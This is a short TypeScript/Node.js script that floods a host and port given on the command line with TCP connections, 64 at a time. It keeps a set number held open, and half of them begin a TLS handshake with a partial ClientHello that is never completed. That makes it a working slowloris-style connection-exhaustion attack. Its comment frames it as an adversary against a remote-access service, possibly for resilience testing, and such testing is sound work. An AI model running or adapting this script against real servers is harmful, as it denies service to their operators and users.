import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

// Somebody who means harm to remote access: opens `amount` connections to it, up to `held` at a time. Half of them
// begin a TLS handshake, none ends it.
const [, , host = '', port = '', amount = '0', held = '0'] = process.argv;
const BEGUN_HELLO = Buffer.from('1603010200010001fc0303', 'hex');
const PARALLEL = 64;

const open: Socket[] = [];
let left = Number(amount);

async function openSome(): Promise<void> {
  while (left > 0) {
    left -= 1;
    const socket = connect({ host, port: Number(port) });
    await once(socket, 'connect').catch(() => undefined);
    socket.on('error', () => undefined).resume();
    if (left % 2 === 0) socket.write(BEGUN_HELLO);
    open.push(socket);
    if (open.length > Number(held)) open.shift()?.destroy();
  }
}

await Promise.all(Array.from({ length: PARALLEL }, openSome));
process.exit();
